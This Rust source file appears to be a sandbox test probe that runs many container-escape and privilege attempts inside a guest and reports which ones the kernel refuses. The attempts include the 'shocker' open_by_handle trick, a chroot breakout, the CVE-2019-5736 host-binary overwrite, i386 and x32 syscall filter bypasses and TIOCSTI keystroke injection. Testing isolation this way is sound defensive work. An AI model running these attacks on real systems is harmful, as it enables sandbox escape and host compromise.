//! What a hostile process of a guest tries: one attack a word, one answer a line.
//!
//! `probe ATTACK…` prints `ATTACK: ok` or `ATTACK: ERRNO` for each word. A word may carry arguments behind colons
//! (`open-read:/dev/kmsg`, `mknod:b:7:0`). Built statically by the harness, as guests have no C library.

use std::ffi::{CString, c_int, c_long, c_void};
use std::io::Error;
use std::process::ExitCode;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
}

const NEWUSER: c_long = 0x1000_0000;
const NEWNS: c_long = 0x0002_0000;
const NEWNET: c_long = 0x4000_0000;
const NEWPID: c_long = 0x2000_0000;
const NEWCGROUP: c_long = 0x0200_0000;

/// A call with numbers for arguments; pointers are passed as numbers by [`with_path`].
fn call(number: c_long, arguments: &[c_long]) -> Result<c_long, i32> {
    let mut six: [c_long; 6] = [0; 6];
    six[..arguments.len()].copy_from_slice(arguments);
    let [a, b, c, d, e, f] = six;
    // SAFETY: every pointer among the arguments comes from a value that the caller keeps until the call returns.
    let result = unsafe { syscall(number, a, b, c, d, e, f) };
    if result < 0 { Err(Error::last_os_error().raw_os_error().unwrap_or(0)) } else { Ok(result) }
}

fn text(word: &str) -> CString {
    CString::new(word).expect("no zero byte in an argument")
}

fn at(text: &CString) -> c_long {
    text.as_ptr() as c_long
}

fn number(word: Option<&str>) -> c_long {
    word.and_then(|word| word.parse().ok()).unwrap_or(0)
}

#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    content: [u8; 128],
}

/// CVE-2014-0047's trick ("shocker"): a handle needs no path. Of this very program, as it lies on a real file system on
/// host and in guest; a layered root gives no handles, and the control would say nothing.
fn open_by_handle() -> Result<c_long, i32> {
    let mut handle = Handle { bytes: 128, kind: 0, content: [0; 128] };
    let mut mount: c_int = 0;
    let program = std::env::current_exe().map_err(|error| error.raw_os_error().unwrap_or(0))?;
    let path = text(&program.display().to_string());
    let pointer = &raw mut handle as c_long;
    call(303, &[-100, at(&path), pointer, &raw mut mount as c_long, 0])?;
    let beside = text(&program.parent().unwrap_or(&program).display().to_string());
    let directory = call(2, &[at(&beside), 0o200_000])?;
    call(304, &[directory, pointer, 0])
}

/// The classic way out of a chroot: another one below, while a descriptor stays above. The answer is `ok` when the
/// file named by `proof` can be read afterwards.
fn leave_chroot(proof: &str) -> Result<c_long, i32> {
    let (root, jail, up, here) = (text("/"), text("/tmp/jail"), text(".."), text("."));
    let _there_already = call(83, &[at(&jail), 0o755]);
    let above = call(2, &[at(&root), 0o200_000])?;
    call(161, &[at(&jail)])?;
    call(81, &[above])?;
    for _ in 0..64 {
        call(80, &[at(&up)])?;
    }
    call(161, &[at(&here)])?;
    let proof = text(proof);
    call(2, &[at(&proof), 0])
}

fn keyring(what: &str, name: &str) -> Result<c_long, i32> {
    let (kind, name, payload) = (text("user"), text(name), text("secret"));
    match what {
        "add" => call(248, &[at(&kind), at(&name), at(&payload), 6, -4]),
        // KEYCTL_SEARCH in the user keyring, then KEYCTL_READ.
        "find" => {
            let key = call(250, &[10, -4, at(&kind), at(&name), 0])?;
            let mut buffer = [0u8; 64];
            call(250, &[11, key, buffer.as_mut_ptr() as c_long, 64])
        }
        _ => call(250, &[0, -4, 1]),
    }
}

/// The same call through another door of the kernel: numbers of i386 (`int 0x80`), which a filter may have forgotten.
fn through_i386(number: u32, first: u32) -> Result<c_long, i32> {
    let result: i32;
    // SAFETY: without IA32 emulation the process dies of SIGSEGV, which the trial takes for a refusal; with it, the
    // calls that are tried take numbers or null pointers.
    unsafe {
        std::arch::asm!(
            "push rbx", "mov ebx, {first:e}", "xor ecx, ecx", "xor edx, edx", "xor esi, esi", "int 0x80", "pop rbx",
            first = in(reg) first,
            inlateout("eax") number => result,
            out("rcx") _, out("rdx") _, out("rsi") _, out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    if result < 0 { Err(-result) } else { Ok(c_long::from(result)) }
}

fn limit(resource: c_long, hard: u64) -> Result<c_long, i32> {
    let new: [u64; 2] = [1, hard];
    call(160, &[resource, new.as_ptr() as c_long])
}

/// Connects a stream, sends a datagram, or serves a stream until it is killed.
fn abstract_socket(how: &str, name: &str) -> Result<c_long, i32> {
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener, UnixStream};
    let address = SocketAddr::from_abstract_name(name).expect("a short name");
    let done = match how {
        "abstract" => UnixStream::connect_addr(&address).map(drop),
        "abstract-send" => UnixDatagram::unbound()
            .and_then(|socket| socket.send_to_addr(b"?", &address))
            .map(drop),
        _ => UnixListener::bind_addr(&address).map(|listener| while listener.accept().is_ok() {}),
    };
    done.map(|()| 0).map_err(|error| error.raw_os_error().unwrap_or(0))
}

/// CVE-2019-5736: the program of another process is opened while it runs, and written to as soon as it does not.
fn overwrite_program(pid: c_long) -> Result<c_long, i32> {
    const ETXTBSY: i32 = 26;
    let program = text(&format!("/proc/{pid}/exe"));
    let file = call(2, &[at(&program), 0])?;
    let again = text(&format!("/proc/self/fd/{file}"));
    for _ in 0..400 {
        match call(2, &[at(&again), 1]) {
            Ok(file) => {
                let words = b"overwritten";
                return call(1, &[file, words.as_ptr() as c_long, 11]);
            }
            Err(ETXTBSY) => std::thread::sleep(std::time::Duration::from_millis(10)),
            Err(errno) => return Err(errno),
        }
    }
    Err(ETXTBSY)
}

/// Attacks that name a file.
fn on_file(word: &str, path: &str, rest: &[&str]) -> Result<c_long, i32> {
    let path = text(path);
    let device = || number(rest.first().copied()) << 8 | number(rest.get(1).copied());
    match word {
        "open-read" => call(2, &[at(&path), 0o4000]),
        "open-write" => call(2, &[at(&path), 0o4001]),
        "mount" => {
            let kind = text("tmpfs");
            call(165, &[at(&kind), at(&path), at(&kind), 0, 0])
        }
        "bind" => {
            let source = text("/");
            call(165, &[at(&source), at(&path), 0, 4096, 0])
        }
        // MS_REMOUNT, MS_BIND: what is read-only would become writable.
        "remount" => call(165, &[0, at(&path), 0, 32 | 4096, 0]),
        "umount" => call(166, &[at(&path), 2]),
        "swapon" => call(167, &[at(&path), 0]),
        "acct" => call(163, &[at(&path)]),
        "pivot_root" => call(155, &[at(&path), at(&path)]),
        "open_tree" => call(428, &[-100, at(&path), 1]),
        "mount_setattr" => {
            let clear_read_only: [u64; 4] = [0, 1, 0, 0];
            call(442, &[-100, at(&path), 0, clear_read_only.as_ptr() as c_long, 32])
        }
        "setns" => {
            let namespace = call(2, &[at(&path), 0])?;
            call(308, &[namespace, 0])
        }
        "mknod-c" => call(133, &[at(&path), 0o20_666, device()]),
        "mknod-b" => call(133, &[at(&path), 0o60_666, device()]),
        _ => panic!("no attack named {word}"),
    }
}

/// Attacks that need no file.
fn on_kernel(word: &str, rest: &[&str]) -> Result<c_long, i32> {
    let argument = |index: usize| number(rest.get(index).copied());
    let space: &mut [u8] = Vec::leak(vec![0; 256]);
    let pointer = space.as_mut_ptr() as c_long;
    match word {
        "open_by_handle" => open_by_handle(),
        "leave-chroot" => leave_chroot(rest[0]),
        "key-add" => keyring("add", rest[0]),
        "key-find" => keyring("find", rest[0]),
        "keyctl" => keyring("id", ""),
        "overwrite-exe" => overwrite_program(argument(0)),
        "request_key" => {
            let (kind, name) = (text("user"), text("e2e"));
            call(249, &[at(&kind), at(&name), 0, -4])
        }
        "io_uring" => call(425, &[1, pointer]),
        "kexec_load" => call(246, &[0, 0, 0, 0]),
        "kexec_file_load" => call(320, &[-1, -1, 0, 0, 0]),
        "unshare-user" => call(272, &[NEWUSER]),
        "unshare-user-mount" => call(272, &[NEWUSER | NEWNS]),
        "clone-user" => call(56, &[NEWUSER | 17, 0, 0, 0, 0]).inspect(|&pid| leave_if_child(pid)),
        "clone3-user" => {
            let arguments: [u64; 11] = [NEWUSER as u64, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0];
            call(435, &[arguments.as_ptr() as c_long, 88]).inspect(|&pid| leave_if_child(pid))
        }
        "unshare-mount" => call(272, &[NEWNS]),
        "unshare-net" => call(272, &[NEWNET]),
        "unshare-pid" => call(272, &[NEWPID]),
        "unshare-cgroup" => call(272, &[NEWCGROUP]),
        "i386-keyctl" => through_i386(288, 0),
        "i386-unshare-user" => through_i386(310, NEWUSER as u32),
        "i386-kexec_load" => through_i386(283, 0),
        "x32-keyctl" => call(0x4000_0000 | 250, &[0, -4, 1]),
        "x32-unshare-user" => call(0x4000_0000 | 272, &[NEWUSER]),
        "init_module" => call(175, &[pointer, 16, pointer]),
        // BPF_PROG_GET_NEXT_ID: the programs of the whole host.
        "bpf" => call(321, &[11, pointer, 128]),
        "perf_event" => {
            space[0..4].copy_from_slice(&1u32.to_ne_bytes());
            space[4..8].copy_from_slice(&112u32.to_ne_bytes());
            // All processes on the first processor.
            call(298, &[pointer, -1, 0, -1, 0])
        }
        "fsopen" => {
            let kind = text("tmpfs");
            call(430, &[at(&kind), 0])
        }
        "sethostname" => call(170, &[at(&text("taken")), 5]),
        "settimeofday" => {
            space[0] = 1;
            call(164, &[pointer, 0])
        }
        "iopl" => call(172, &[3]),
        "ioperm" => call(173, &[0x80, 1, 1]),
        // SYSLOG_ACTION_READ_ALL
        "syslog" => call(103, &[3, pointer, 256]),
        "vhangup" => call(153, &[]),
        "fanotify" => {
            // A mark on the whole mount, beyond what everybody may do.
            let group = call(300, &[0, 0])?;
            let path = text("/");
            call(301, &[group, 1 | 0x10, 0x20, -100, at(&path)])
        }
        // LINUX_REBOOT_CMD_KEXEC
        "reboot-kexec" => call(169, &[0xfee1_dead, 672_274_793, 0x4558_4543]),
        "ptrace" => call(101, &[16, argument(0), 0, 0]),
        "kill" => call(62, &[argument(0), argument(1)]),
        "sched-rt" => {
            space[0] = 50;
            call(144, &[0, 1, pointer])
        }
        "nice" => call(141, &[0, 0, -10]),
        "limit" => limit(argument(0), argument(1) as u64),
        // TIOCSTI: a character typed into the terminal on descriptor 0.
        "tiocsti" => {
            for byte in rest[0].bytes().chain([b'\n']) {
                call(16, &[0, 0x5412, &raw const byte as c_long])?;
            }
            Ok(0)
        }
        "abstract" | "abstract-send" | "abstract-serve" => abstract_socket(word, rest[0]),
        // AF_PACKET, SOCK_RAW: listening to the host's network.
        "packet" => call(41, &[17, 3, 0x0300]),
        "raw-socket" => call(41, &[2, 3, 1]),
        "personality" => call(135, &[0x0004_0000]),
        _ => panic!("no attack named {word}"),
    }
}

fn leave_if_child(pid: c_long) {
    if pid == 0 {
        std::process::exit(0);
    }
}

fn attack(word: &str) -> Result<c_long, i32> {
    let parts: Vec<&str> = word.split(':').collect();
    match parts[1..].first() {
        Some(path) if path.starts_with('/') && parts[0] != "leave-chroot" => on_file(parts[0], path, &parts[2..]),
        _ => on_kernel(parts[0], &parts[1..]),
    }
}

fn name(errno: i32) -> String {
    let known = [
        (1, "EPERM"), (2, "ENOENT"), (3, "ESRCH"), (5, "EIO"), (6, "ENXIO"), (9, "EBADF"), (13, "EACCES"),
        (14, "EFAULT"), (15, "ENOTBLK"), (16, "EBUSY"), (17, "EEXIST"), (19, "ENODEV"), (20, "ENOTDIR"),
        (21, "EISDIR"), (22, "EINVAL"), (25, "ENOTTY"), (28, "ENOSPC"), (30, "EROFS"), (38, "ENOSYS"),
        (40, "ELOOP"), (93, "EPROTONOSUPPORT"), (94, "ESOCKTNOSUPPORT"), (95, "EOPNOTSUPP"),
        (97, "EAFNOSUPPORT"), (111, "ECONNREFUSED"), (126, "ENOKEY"),
    ];
    known
        .iter()
        .find(|(number, _)| *number == errno)
        .map_or_else(|| format!("errno {errno}"), |(_, name)| (*name).to_owned())
}

fn main() -> ExitCode {
    for word in std::env::args().skip(1) {
        // Each in a process of its own, so that one that succeeds or dies does not help or hinder the next.
        match call(57, &[]) {
            Ok(0) => {
                let answer = attack(&word).map_or_else(name, |_| "ok".to_owned());
                println!("{word}: {answer}");
                return ExitCode::SUCCESS;
            }
            Ok(pid) => {
                let mut status: c_int = 0;
                let pointer: *mut c_void = (&raw mut status).cast();
                let _ended = call(61, &[pid, pointer as c_long, 0x4000_0000, 0]);
                if status & 0x7f != 0 {
                    println!("{word}: died of signal {}", status & 0x7f);
                }
            }
            Err(errno) => println!("{word}: fork: {}", name(errno)),
        }
    }
    ExitCode::SUCCESS
}
